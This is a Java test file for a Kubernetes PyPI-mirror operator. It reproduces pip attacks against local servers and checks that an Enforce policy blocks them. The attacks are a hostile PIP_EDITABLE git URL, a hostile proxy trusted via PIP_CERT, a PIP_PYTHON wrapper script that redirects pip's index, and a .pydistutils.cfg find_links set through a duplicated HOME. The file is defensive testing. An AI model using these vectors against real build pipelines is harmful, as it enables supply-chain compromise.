package dev.pypimirror.operator.inject;

import static dev.pypimirror.operator.testing.Mirrors.https;
import static dev.pypimirror.operator.testing.Mirrors.spec;
import static dev.pypimirror.operator.testing.Mirrors.trustedHttp;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.pypimirror.operator.api.PypiMirror;
import dev.pypimirror.operator.api.PypiMirrorPolicy;
import dev.pypimirror.operator.api.PypiMirrorPolicySpec.Enforcement;
import dev.pypimirror.operator.api.PypiMirrorSpec;
import dev.pypimirror.operator.config.MirrorConfigRenderer;
import dev.pypimirror.operator.inject.InjectionPlan.Outcome;
import dev.pypimirror.operator.policy.PolicyMirrors;
import dev.pypimirror.operator.testing.HostileProxy;
import dev.pypimirror.operator.testing.IndexServer;
import dev.pypimirror.operator.testing.Pods;
import dev.pypimirror.operator.testing.Policies;
import dev.pypimirror.operator.testing.Python;
import dev.pypimirror.operator.testing.SelfSignedTls;
import dev.pypimirror.operator.testing.SimpleIndex;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attacks the second review reproduced with real pip, each run twice in a clean environment
 * with local servers for the allowed and a hostile index: once as the webhook admits the pod
 * without Enforce's allow-list (Advisory: the mirror's variables in place, the pod's own kept, as
 * every pod was before), where the attack reaches the hostile host; once under Enforce, where the
 * pod is admitted without the variable and pip asks only the mirror, or the pod is refused.
 */
class EnforcedPodAttacksRealPipTest {
  @TempDir static Path scratch;
  static Python python;
  static Path good;
  static Path bad;
  static SelfSignedTls genuineTls;
  static SelfSignedTls hostileTls;

  @BeforeAll
  static void wheels() throws Exception {
    python = new Python(scratch);
    good = Files.createDirectories(scratch.resolve("good"));
    bad = Files.createDirectories(scratch.resolve("bad"));
    SimpleIndex.add(good, "pmo-probe", python.buildWheel(scratch, "pmo-probe", "1.0"));
    SimpleIndex.add(bad, "pmo-probe", python.buildWheel(scratch, "pmo-probe", "6.6.6"));
    genuineTls = SelfSignedTls.create(Files.createDirectories(scratch.resolve("genuine-tls")));
    hostileTls = SelfSignedTls.create(Files.createDirectories(scratch.resolve("hostile-tls")));
  }

  /** The policy's mirror at {@code url}, made by an Enforce policy that allows only it. */
  record Governed(PypiMirror mirror, PypiMirrorPolicy policy) {
    static Governed at(String url, PypiMirrorSpec spec) {
      PypiMirror mirror = Pods.readyMirror("ml", "corp-builds", spec);
      mirror.getSpec().setOffline(true);
      mirror.getMetadata().setLabels(Map.of(PolicyMirrors.MADE_BY_POLICY_LABEL, "corp-builds"));
      PypiMirrorPolicy policy =
          Policies.policy("corp-builds", Map.of("team", "ml"), mirror.getSpec(), true);
      policy.getSpec().setPodSelector(Policies.selector(Map.of()));
      policy.getSpec().setAllowedIndexPrefixes(List.of(url));
      policy.getSpec().setAllowInsecureHttp(url.startsWith("http:"));
      policy.getSpec().setAllowPublicIndex(false);
      return new Governed(mirror, policy);
    }

    /** The webhook's plan for the pod under Enforce, or under Advisory when not. */
    InjectionPlan admit(JsonNode pod, boolean enforce) {
      policy.getSpec().setEnforcement(enforce ? Enforcement.Enforce : Enforcement.Advisory);
      return PodInjector.inject(pod, "ml", null, Pods.directory(mirror), ns -> Optional.of(policy));
    }

    /** The admitted pod's first container's environment, its mirror files under {@code root}. */
    Map<String, String> env(JsonNode pod, boolean enforce, Path root) throws Exception {
      InjectionPlan plan = admit(pod, enforce);
      assertThat(plan.outcome()).as("%s", plan).isEqualTo(Outcome.INJECTED);
      JsonNode admitted = Pods.applyPatch(pod, plan.patch());
      return EnforcedPodRealPipTest.containerEnv(
          admitted,
          admitted.at("/spec/containers/0"),
          MirrorConfigRenderer.render("corp-builds", mirror.getSpec()),
          Files.createDirectories(root));
    }
  }

  static JsonNode pod(String env) {
    return Pods.yaml(
        "metadata: {name: build}\nspec:\n  containers:\n  - name: build\n    env:\n" + env);
  }

  static Path downloaded(Path out, String version) {
    return out.resolve("pmo_probe-" + version + "-py3-none-any.whl");
  }

  @Test
  void pipEditableClonesFromTheHostileHostUnlessEnforceRemovesIt() throws Exception {
    // a hostile project in a git repository the hostile host serves (git's dumb HTTP protocol)
    Path project = Files.createDirectories(scratch.resolve("hostile-project"));
    Files.writeString(
        project.resolve("setup.py"),
        "from setuptools import setup\nsetup(name='hostile', version='1.0')\n");
    Path served = Files.createDirectories(scratch.resolve("hostile-git"));
    git(project, "init", "-q");
    git(project, "add", "setup.py");
    git(project, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x");
    git(project, "clone", "-q", "--bare", ".", served.resolve("hostile.git").toString());
    git(served.resolve("hostile.git"), "update-server-info");

    try (IndexServer mirror = IndexServer.http(good);
        IndexServer hostile = IndexServer.http(served)) {
      Governed governed = Governed.at(mirror.url(), spec(trustedHttp(mirror.url())));
      JsonNode pod =
          pod(
              "    - {name: PIP_EDITABLE, value: 'git+%shostile.git#egg=hostile'}\n"
                  .formatted(hostile.url()));

      Path advisedOut = Files.createDirectories(scratch.resolve("editable-advisory"));
      Map<String, String> advised = governed.env(pod, false, scratch.resolve("root-ed-a"));
      assertThat(advised).containsKey("PIP_EDITABLE");
      python.run(advisedOut, advised, "-m", "pip", "wheel", "--no-deps", "-w", ".", "pmo-probe");
      assertThat(hostile.requests())
          .as("pip cloned the pod's repository from the hostile host")
          .contains("/simple/hostile.git/info/refs");
      assertThat(advisedOut.resolve("src/hostile/setup.py")).exists();

      hostile.requests().clear();
      Path enforcedOut = Files.createDirectories(scratch.resolve("editable-enforce"));
      Map<String, String> enforced = governed.env(pod, true, scratch.resolve("root-ed-e"));
      assertThat(enforced).doesNotContainKey("PIP_EDITABLE");
      python
          .run(enforcedOut, enforced, "-m", "pip", "wheel", "--no-deps", "-w", ".", "pmo-probe")
          .assertOk();
      assertThat(downloaded(enforcedOut, "1.0")).exists();
      assertThat(hostile.requests()).isEmpty();
      assertThat(enforcedOut.resolve("src")).doesNotExist();
    }
  }

  @Test
  void aHostileProxyThePodTrustsAnswersForTheHttpsIndexUnlessEnforceRemovesBoth() throws Exception {
    // the image trusts the mirror's CA (its own ENV PIP_CERT, which admission never sees and a
    // variable of the pod's replaces); the pod names a proxy and a CA of its own, and the proxy
    // ends the tunnel to the mirror with a certificate of that CA
    Map<String, String> image = Map.of("PIP_CERT", genuineTls.certificatePem.toString());
    try (IndexServer mirror = IndexServer.https(good, genuineTls.serverContext());
        HostileProxy proxy = HostileProxy.start(bad, hostileTls.serverContext())) {
      Governed governed = Governed.at(mirror.url(), spec(https(mirror.url())));
      JsonNode pod =
          pod(
              "    - {name: PIP_PROXY, value: '%s'}\n    - {name: PIP_CERT, value: '%s'}\n"
                  .formatted(proxy.url(), hostileTls.certificatePem));

      Path advisedOut = Files.createDirectories(scratch.resolve("proxy-advisory"));
      Map<String, String> advised =
          onTopOf(image, governed.env(pod, false, scratch.resolve("root-px-a")));
      python.pipDownload(advisedOut, advised, "pmo-probe").assertOk();
      assertThat(downloaded(advisedOut, "6.6.6"))
          .as("the proxy answered for the mirror over https, trusted through PIP_CERT")
          .exists();
      assertThat(proxy.requests()).contains("CONNECT " + mirror.url().split("/")[2]);
      assertThat(mirror.requests()).isEmpty();

      proxy.requests().clear();
      Path enforcedOut = Files.createDirectories(scratch.resolve("proxy-enforce"));
      Map<String, String> podEnv = governed.env(pod, true, scratch.resolve("root-px-e"));
      assertThat(podEnv).doesNotContainKeys("PIP_PROXY", "PIP_CERT");
      Map<String, String> enforced = onTopOf(image, podEnv);
      python.pipDownload(enforcedOut, enforced, "pmo-probe").assertOk();
      assertThat(downloaded(enforcedOut, "1.0")).exists();
      assertThat(proxy.requests()).isEmpty();
      assertThat(mirror.requests()).isNotEmpty();
    }
  }

  @Test
  void pipPythonRerunsPipThroughTheFileThePodMountsUnlessEnforceRemovesIt() throws Exception {
    try (IndexServer mirror = IndexServer.http(good);
        IndexServer hostile = IndexServer.http(bad)) {
      Governed governed = Governed.at(mirror.url(), spec(trustedHttp(mirror.url())));
      // the pod's own volume holds an "interpreter": it points pip at the hostile index, then
      // runs the real one
      Path tools = Files.createDirectories(scratch.resolve("pod-volume"));
      Path interpreter = tools.resolve("python");
      Files.writeString(
          interpreter,
          "#!/bin/sh\nexport PIP_INDEX_URL=%s PIP_EXTRA_INDEX_URL=%s\nexec %s \"$@\"\n"
              .formatted(hostile.url(), hostile.url(), Python.PYTHON));
      Files.setPosixFilePermissions(interpreter, PosixFilePermissions.fromString("rwxr-xr-x"));
      JsonNode pod = pod("    - {name: PIP_PYTHON, value: '%s'}\n".formatted(interpreter));

      Path advisedOut = Files.createDirectories(scratch.resolve("python-advisory"));
      Map<String, String> advised = governed.env(pod, false, scratch.resolve("root-py-a"));
      python.pipDownload(advisedOut, advised, "pmo-probe").assertOk();
      assertThat(downloaded(advisedOut, "6.6.6"))
          .as("pip re-ran itself through the pod's file, which rewrote its settings")
          .exists();
      assertThat(hostile.requests()).isNotEmpty();

      hostile.requests().clear();
      Path enforcedOut = Files.createDirectories(scratch.resolve("python-enforce"));
      Map<String, String> enforced = governed.env(pod, true, scratch.resolve("root-py-e"));
      assertThat(enforced).doesNotContainKey("PIP_PYTHON");
      python.pipDownload(enforcedOut, enforced, "pmo-probe").assertOk();
      assertThat(downloaded(enforcedOut, "1.0")).exists();
      assertThat(hostile.requests()).isEmpty();
    }
  }

  @Test
  void twoHomesLetThePodsPydistutilsCfgHandItsFindLinksToPipUnlessEnforceRefusesThePod()
      throws Exception {
    // the hostile host has a certificate the machine trusts, as one on the internet would
    try (IndexServer mirror = IndexServer.http(good);
        IndexServer hostile = IndexServer.https(bad, hostileTls.serverContext())) {
      Governed governed = Governed.at(mirror.url(), spec(trustedHttp(mirror.url())));
      // the process's HOME (the last entry) holds the pod's own .pydistutils.cfg
      Path home = Files.createDirectories(scratch.resolve("pod-home"));
      Files.writeString(
          home.resolve(".pydistutils.cfg"),
          "[easy_install]\nfind_links = %spmo-probe/\n".formatted(hostile.url()));
      JsonNode pod =
          Pods.yaml(
              """
              metadata: {name: build}
              spec:
                volumes: [{name: own, configMap: {name: own}}]
                containers:
                - name: build
                  env:
                  - {name: HOME, value: /decoy}
                  - {name: HOME, value: '%s'}
                  volumeMounts:
                  - {name: own, mountPath: '%s/.pydistutils.cfg', subPath: pydistutils.cfg}
              """
                  .formatted(home, home));
      // a legacy project whose setup.py needs pmo-probe to build (setup_requires)
      Path project = Files.createDirectories(scratch.resolve("legacy-project"));
      Files.writeString(
          project.resolve("setup.py"),
          "from setuptools import setup\n"
              + "setup(name='legacy', version='1.0', setup_requires=['pmo-probe'])\n");

      Map<String, String> advised = governed.env(pod, false, scratch.resolve("root-home-a"));
      advised.put("HOME", home.toString()); // the kubelet's choice: the last entry
      advised.put("PIP_CERT", hostileTls.certificatePem.toString());
      assertThat(advised.get("PIP_INDEX_URL")).isEqualTo(mirror.url());
      python.run(project, advised, "setup.py", "-q", "egg_info").assertOk();
      try (Stream<Path> eggs = Files.list(project.resolve(".eggs"))) {
        assertThat(eggs.map(p -> p.getFileName().toString()))
            .as("setuptools handed the pod's find_links to pip, beating the mirror's variables")
            .anyMatch(name -> name.startsWith("pmo_probe-6.6.6"));
      }
      assertThat(hostile.requests()).isNotEmpty();

      InjectionPlan enforced = governed.admit(pod, true);
      assertThat(enforced.outcome()).isEqualTo(Outcome.DENIED);
      assertThat(enforced.refusal()).contains("container build sets HOME 2 times; set it once");
      // one HOME does not help the pod: its own file at HOME/.pydistutils.cfg is refused
      JsonNode oneHome =
          Pods.yaml(pod.toString().replace("{\"name\":\"HOME\",\"value\":\"/decoy\"},", ""));
      InjectionPlan alone = governed.admit(oneHome, true);
      assertThat(alone.outcome()).as(oneHome.toString()).isEqualTo(Outcome.DENIED);
      assertThat(alone.refusal()).contains(".pydistutils.cfg");
    }
  }

  /** The process's environment: the image's ENV, replaced by the pod's variables of a name. */
  static Map<String, String> onTopOf(Map<String, String> image, Map<String, String> pod) {
    Map<String, String> env = new java.util.LinkedHashMap<>(image);
    env.putAll(pod);
    return env;
  }

  private static void git(Path dir, String... args) throws Exception {
    Process git =
        new ProcessBuilder(Stream.concat(Stream.of("git"), Stream.of(args)).toList())
            .directory(dir.toFile())
            .redirectErrorStream(true)
            .start();
    String output = new String(git.getInputStream().readAllBytes());
    assertThat(git.waitFor()).as(output).isZero();
  }
}
